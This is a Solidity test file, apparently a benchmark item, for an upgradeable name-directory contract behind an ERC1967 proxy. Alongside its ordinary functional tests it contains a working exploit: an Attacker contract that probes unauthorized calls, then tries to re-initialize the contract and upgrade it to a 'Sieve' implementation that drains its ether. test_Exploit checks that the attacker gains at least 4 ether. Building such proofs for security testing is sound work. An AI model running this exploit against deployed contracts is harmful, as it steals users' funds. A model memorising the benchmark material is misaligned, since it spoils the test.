// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "@openzeppelin/contracts@5.4.0/proxy/ERC1967/ERC1967Proxy.sol";
import "./NameDirectory.sol";

// assay-canary-590c6046-74f5-4226-885d-1303eaac5f7b

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// What the attacker would put behind the proxy.
contract Sieve {
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    function proxiableUUID() external pure returns (bytes32) {
        return SLOT;
    }

    function drain(address payable to) external {
        (bool ok, ) = to.call{value: address(this).balance}("");
        require(ok);
    }
}

contract Attacker {
    NameDirectory internal names;
    address internal code;

    constructor(NameDirectory names_, address code_) {
        names = names_;
        code = code_;
    }

    receive() external payable {}

    function _try(address to, bytes memory data, uint256 value) internal returns (bool ok) {
        (ok, ) = to.call{value: value}(data);
    }

    function early(bytes32 taken, bytes32 other) external {
        address at = address(names);
        _try(at, abi.encodeCall(names.collect, (payable(address(this)))), 0);
        // the names of others
        _try(at, abi.encodeCall(names.handOver, (taken, address(this))), 0);
        _try(at, abi.encodeCall(names.setRecord, (taken, "address", "mine")), 0);
        _try(at, abi.encodeCall(names.renew, (taken, 1)), 0);
        _try(at, abi.encodeCall(names.renew, (taken, 0)), 0);
        _try(at, abi.encodeCall(names.renew, (keccak256("nobody"), 1)), names.yearlyFee());
        // promises, one's own and another's
        _try(at, abi.encodeCall(names.reserve, (other)), 0);
        _try(at, abi.encodeCall(names.reserve, (keccak256(abi.encode("bakery", address(this), bytes32(0))))), 0);
        _try(at, abi.encodeCall(names.reserve, (keccak256(abi.encode("florist", address(this), bytes32(0))))), 0);
        _try(at, abi.encodeCall(names.register, ("florist", 1, 0)), names.yearlyFee());
        _try(at, abi.encodeCall(names.register, ("florist", type(uint256).max, 0)), names.yearlyFee());
    }

    function late() external {
        address at = address(names);
        _try(at, abi.encodeCall(names.register, ("bakery", 1, 0)), names.yearlyFee());
        _try(at, abi.encodeCall(names.register, ("florist", 1, "salt")), names.yearlyFee());
        _try(at, abi.encodeCall(names.register, ("florist", 0, 0)), 0);
        _try(at, abi.encodeCall(names.register, ("florist", 1, 0)), names.yearlyFee());
        _try(at, abi.encodeCall(names.register, ("florist", 1, 0)), names.yearlyFee());
        // the code
        address sieve = address(new Sieve());
        bytes memory drain = abi.encodeCall(Sieve.drain, (payable(address(this))));
        _try(code, abi.encodeCall(names.initialize, (address(this), 0)), 0);
        _try(code, abi.encodeCall(names.upgradeToAndCall, (sieve, drain)), 0);
        _try(at, abi.encodeCall(names.initialize, (address(this), 0)), 0);
        _try(at, abi.encodeCall(names.upgradeToAndCall, (sieve, drain)), 0);
        _try(at, drain, 0);
    }
}

/// Takes no ether.
contract Stone {}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant ADMIN = address(0xAD);
    address private constant ANN = address(0xA1);
    address private constant BEN = address(0xBE);
    bytes32 private constant BAKERY = keccak256("bakery");

    NameDirectory private names;
    Attacker private outsider;

    function _promise(address who, string memory label) private {
        vm.prank(who);
        names.reserve(keccak256(abi.encode(label, who, bytes32("salt"))));
        vm.warp(block.timestamp + 1 minutes);
    }

    function _register(address who, string memory label, uint256 term) private returns (bytes32) {
        _promise(who, label);
        uint256 fee = names.yearlyFee() * term;
        vm.prank(who);
        return names.register{value: fee}(label, term, "salt");
    }

    function setUp() public {
        vm.warp(1_795_000_000);
        NameDirectory code = new NameDirectory();
        bytes memory data = abi.encodeCall(code.initialize, (ADMIN, 0.5 ether));
        names = NameDirectory(address(new ERC1967Proxy(address(code), data)));
        outsider = new Attacker(names, address(code));
        vm.deal(address(outsider), 1 ether);
        vm.deal(ANN, 20 ether);
        vm.deal(BEN, 20 ether);
        _register(ANN, "bakery", 10);
    }

    function test_Regular() public {
        (address holder, , uint64 until) = names.names(BAKERY);
        require(holder == ANN && until == block.timestamp + 3650 days, "registered");
        vm.prank(ANN);
        names.setRecord(BAKERY, "site", "bakery.example");
        vm.prank(ANN);
        names.handOver(BAKERY, BEN);
        require(keccak256(bytes(names.record(BAKERY, "site"))) == keccak256("bakery.example"), "record");
        vm.prank(ANN);
        names.renew{value: 0.5 ether}(BAKERY, 1);
        (holder, , until) = names.names(BAKERY);
        require(holder == BEN && until == block.timestamp + 4015 days, "renewed");
        vm.warp(block.timestamp + 4015 days + 30 days);
        require(_register(ANN, "bakery", 1) == BAKERY, "again");
        require(bytes(names.record(BAKERY, "site")).length == 0, "without the old record");

        vm.prank(ADMIN);
        names.collect(payable(ADMIN));
        require(ADMIN.balance == 6 ether && address(names).balance == 0, "collected");
        address next = address(new NameDirectory());
        vm.prank(ADMIN);
        names.upgradeToAndCall(next, "");
        require(names.admin() == ADMIN && names.yearlyFee() == 0.5 ether, "kept");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesNoAdmin() public {
        address code = address(new NameDirectory());
        bytes memory data = abi.encodeCall(names.initialize, (address(0), 1));
        vm.expectRevert("no admin");
        new ERC1967Proxy(code, data);
    }

    function test_RefusesStrangers() public {
        bytes4 no = NameDirectory.Denied.selector;
        vm.prank(BEN);
        vm.expectRevert(no);
        names.collect(payable(BEN));
        vm.prank(BEN);
        vm.expectRevert(no);
        names.handOver(BAKERY, BEN);
        vm.prank(BEN);
        vm.expectRevert(no);
        names.setRecord(BAKERY, "site", "");
        vm.prank(ANN);
        vm.expectRevert("no holder");
        names.handOver(BAKERY, address(0));
        vm.warp(block.timestamp + 3650 days);
        vm.prank(ANN);
        vm.expectRevert(no);
        names.handOver(BAKERY, BEN);
        vm.prank(ANN);
        vm.expectRevert(no);
        names.setRecord(BAKERY, "site", "");
        Stone stone = new Stone();
        vm.prank(ADMIN);
        vm.expectRevert("not paid");
        names.collect(payable(address(stone)));
    }

    function refused(string memory label, uint256 term, uint256 fee, bytes memory why) private {
        vm.prank(BEN);
        vm.expectRevert(why);
        names.register{value: fee}(label, term, "salt");
    }

    function test_RefusesRegistrations() public {
        _promise(BEN, "ab");
        refused("ab", 1, 0.5 ether, "bad label");
        _promise(BEN, "a name that is longer than it may be");
        refused("a name that is longer than it may be", 1, 0.5 ether, "bad label");
        _promise(BEN, "bakery");
        refused("bakery", 1, 0.5 ether, "taken");
        vm.warp(block.timestamp + 3650 days + 30 days - 2 minutes);
        _promise(BEN, "bakery");
        vm.warp(block.timestamp - 1);
        refused("bakery", 1, 0.5 ether, "promise too young or too old");
        vm.warp(block.timestamp + 1);
        refused("bakery", 1, 0.5 ether - 1, "wrong fee");
        refused("bakery", 0, 0, "bad term");
        refused("bakery", 11, 5.5 ether, "bad term");
        vm.warp(block.timestamp + 1 days);
        refused("bakery", 1, 0.5 ether, "promise too young or too old");
    }

    function test_RefusesRenewals() public {
        vm.prank(BEN);
        vm.expectRevert("not registered");
        names.renew{value: 0.5 ether}(keccak256("florist"), 1);
        vm.warp(block.timestamp + 3650 days + 30 days);
        vm.prank(BEN);
        vm.expectRevert("not registered");
        names.renew{value: 0.5 ether}(BAKERY, 1);
        // early enough that an empty entry has not run out
        vm.warp(20 days);
        vm.prank(BEN);
        vm.expectRevert("not registered");
        names.renew{value: 0.5 ether}(keccak256("florist"), 1);
    }

    function exploit() public {
        outsider.early(BAKERY, keccak256(abi.encode("bakery", ANN, bytes32("salt"))));
        vm.warp(block.timestamp + 1 hours);
        outsider.late();
    }

    function test_Exploit() public {
        uint256 before = address(outsider).balance;
        exploit();
        require(address(outsider).balance >= before + 4 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(names);
    }

    function attacker() public view returns (address) {
        return address(outsider);
    }
}
